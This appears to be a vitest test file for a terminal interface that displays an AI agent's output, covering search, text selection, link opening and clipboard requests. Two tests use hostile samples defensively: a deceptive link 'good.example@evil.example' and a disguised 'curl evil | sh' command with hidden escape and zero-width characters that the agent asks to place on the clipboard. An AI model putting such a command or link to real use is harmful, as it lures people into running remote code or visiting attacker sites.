import { describe, expect, test } from 'vitest';
import { planned, working } from '../helpers/run-builder.ts';
import { escapes, footer, show, status } from '../helpers/ui.tsx';

describe('the search in the agent’s pane', () => {
  test('is typed, counted, kept, gone on with and given up', async () => {
    const ui = await show(working());
    await ui.type('2', '/', 'err');
    expect(ui.terminal.did).toEqual(['find err']);
    ui.terminal.read({ found: { count: 17, at: 3 } });
    await ui.settle();
    expect(status(ui)).toContain('/err   3 of 17');
    await ui.type('\r', 'n', 'N');
    expect(ui.terminal.did.slice(1)).toEqual(['next 1', 'next -1']);
    expect(status(ui)).toBe('/err  3 of 17  n next, N previous');
    await ui.type(escapes.esc);
    expect(ui.terminal.did.at(-1)).toBe('find end');
  });

  test('goes back with Esc while it is typed, and ends with its pane', async () => {
    const ui = await show(working());
    await ui.type('2', '/', 'x', escapes.esc);
    expect(ui.terminal.did).toEqual(['find x', 'find back', 'find end']);
    await ui.type('/', 'y', '\r', '1');
    expect(ui.terminal.did.at(-1)).toBe('find end');
  });

  test('says when there is nothing', async () => {
    const ui = await show(working());
    await ui.type('2', '/', 'zz');
    ui.terminal.read({ found: { count: 0, at: 0 } });
    await ui.settle();
    expect(status(ui)).toContain('not found');
  });
});

describe('selecting', () => {
  test('by keys: v, move, v, y copies and says how much', async () => {
    const ui = await show(working());
    await ui.type('2', 'v', 'k', 'w');
    expect(footer(ui)).toMatch(/^v mark {2}V lines/);
    await ui.type('v', escapes.down, 'y');
    expect(ui.terminal.did).toEqual([
      'select begin',
      'select up',
      'select word-right',
      'select mark',
      'select down',
      'select end',
    ]);
    expect(ui.copied).toEqual(['some text']);
    expect(status(ui)).toBe('Sent to your terminal’s clipboard: 9 characters in 1 line.');
  });

  test('with the mouse brings the focus to the pane, so that y copies', async () => {
    const ui = await show(working());
    ui.terminal.read({ selecting: 'marked' });
    await ui.settle();
    expect(ui.frame()).toContain('[2 Agent');
    await ui.type('y');
    expect(ui.copied).toEqual(['some text']);
  });
});

describe('links', () => {
  test('are listed by number, shown in full with their host, and only then opened', async () => {
    const ui = await show(working());
    ui.terminal.links = ['https://one.example/a', 'https://good.example@evil.example/b'];
    await ui.type('2', 'o', '2');
    expect(ui.frame()).toContain('host  evil.example');
    expect(ui.browsed).toEqual([]);
    await ui.type('\r');
    expect(ui.browsed).toEqual(['https://good.example@evil.example/b']);
  });

  test('are copied instead with y; without one nothing opens', async () => {
    const ui = await show(working());
    await ui.type('2', 'o');
    expect(status(ui)).toBe('There is no web address in what is shown.');
    ui.terminal.links = ['https://one.example/a'];
    await ui.type('o', 'y');
    expect([ui.copied, ui.browsed]).toEqual([['https://one.example/a'], []]);
  });
});

describe('what the agent wants on the clipboard', () => {
  test('is told, shown with every invisible character, and put there only by y', async () => {
    const ui = await show(working());
    ui.terminal.read({ wish: 'curl evil \x1b[31m| sh\u200b\n' });
    await ui.settle();
    expect(ui.frame()).toContain('it wants your clipboard: c shows what');
    await ui.type('c');
    expect(ui.frame()).toContain('21 characters in 2 lines');
    expect(ui.frame()).toMatch(/curl evil .+31m\| sh.+/);
    await ui.type(escapes.esc);
    expect(ui.copied).toEqual([]);
    await ui.type('c', 'd');
    expect([ui.copied, ui.terminal.reading.wish]).toEqual([[], null]);
    ui.terminal.read({ wish: 'other' });
    await ui.settle();
    await ui.type('c', 'y');
    expect([ui.copied, ui.terminal.reading.wish]).toEqual([['other'], null]);
  });
});

test('m gives the mouse to the person’s terminal and takes it back', async () => {
  const ui = await show(working());
  await ui.type('m');
  expect(ui.terminal.reading.mouse).toBe(false);
  await ui.type('m');
  expect(ui.terminal.reading.mouse).toBe(true);
});

test('jumping says when there is no further action', async () => {
  const ui = await show(working());
  await ui.type('2', '[');
  expect([ui.terminal.did, status(ui)]).toEqual([['jump -1'], 'No other action’s output begins further up.']);
});

test('what waits for the person stays in sight below the message of a wrong key', async () => {
  const ui = await show(planned());
  await ui.type('%');
  expect(status(ui)).toContain('% does nothing here');
  expect(footer(ui)).toContain('The plan waits for you');
});

test('an early Esc closes a dialog that one opened, and not a question', async () => {
  const ui = await show(working(), { columns: 120, rows: 40 }, { settleMs: 500 });
  await ui.type('q');
  expect(ui.frame()).toContain('Leave?');
  await ui.type(escapes.esc);
  expect(ui.frame()).not.toContain('Leave?');
});

test('leaving while the plan waits says so', async () => {
  const ui = await show(planned());
  await ui.type('q');
  expect(ui.frame()).toContain('The plan waits for you.');
});

test('what goes wrong beside the screen is said', async () => {
  const heard: ((problem: string) => void)[] = [];
  const ui = await show(working(), undefined, { heed: (listener) => void heard.push(listener) });
  heard[0]?.('The recording stops here.');
  await ui.settle();
  expect(status(ui)).toBe('The recording stops here.');
});
